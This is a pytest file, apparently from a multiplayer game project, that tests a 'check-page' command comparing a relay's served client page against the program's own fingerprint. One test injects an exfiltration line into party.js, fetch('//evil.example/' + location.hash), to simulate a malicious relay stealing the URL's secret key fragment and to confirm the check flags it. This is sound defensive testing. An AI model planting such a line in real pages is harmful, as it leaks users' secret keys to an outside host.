"""`python -m game check-page` (issue 46, item 9): the page a relay serves, compared with this
program's own; the fingerprint the lobby and the host's console show."""

from __future__ import annotations

import re

import pytest

from game.cli import main
from game.party.files import CLIENT_FILES, PAGE, SCRIPTED, ClientFiles, fingerprint
from game.relay.server import RelayThread


@pytest.fixture
def relay():  # noqa: ANN201
    thread = RelayThread.of().start("127.0.0.1", 0)
    yield thread
    thread.stop()


def _ours() -> dict[str, bytes]:
    files = ClientFiles()
    return {name: files.page().body if name == PAGE else files.asset(f"/c/{name}").body
            for name in SCRIPTED}


def test_the_fingerprint_is_five_groups_and_moves_with_any_byte():
    ours = _ours()
    fp = fingerprint(ours)
    assert re.fullmatch(r"[0-9a-f]{4}( [0-9a-f]{4}){4}", fp)
    assert fp == ClientFiles().fingerprint()
    for name in SCRIPTED:
        changed = dict(ours, **{name: ours[name] + b" "})
        assert fingerprint(changed) != fp, name
    # moving bytes from one file to the next is a different page too
    moved = dict(ours, **{SCRIPTED[0]: ours[SCRIPTED[0]] + ours[SCRIPTED[1]][:1],
                          SCRIPTED[1]: ours[SCRIPTED[1]][1:]})
    assert fingerprint(moved) != fp


def test_a_relay_serving_our_page_passes_by_its_address_and_by_a_seat_link(relay, capsys):
    assert main(["check-page", f"ws://127.0.0.1:{relay.port}"]) == 0
    out = capsys.readouterr().out
    assert "unchanged" in out and ClientFiles().fingerprint() in out
    link = f"http://127.0.0.1:{relay.port}/o/room12345/1/{'t' * 22}#secret-key-part"
    assert main(["check-page", link]) == 0


def test_an_altered_page_is_named_and_fails(relay, capsys):
    files = relay.relay._files._files  # what this relay serves
    files["party.js"] = files["party.js"] + b"\nfetch('//evil.example/' + location.hash);\n"
    assert main(["check-page", f"http://127.0.0.1:{relay.port}"]) == 1
    out = capsys.readouterr().out
    assert "NOT this program's" in out and "party.js" in out
    assert all(name not in out.split("differ")[0] for name in (PAGE, *CLIENT_FILES)
               if name != "party.js")


def test_nothing_there_or_not_an_address_is_one_sentence(capsys):
    assert main(["check-page", "http://127.0.0.1:9"]) == 2
    assert main(["check-page", "not a relay"]) == 2
    out = capsys.readouterr().out.strip().splitlines()
    assert len(out) == 2 and all(line.startswith("Could not check the page:") for line in out)
    assert "Traceback" not in "".join(out)
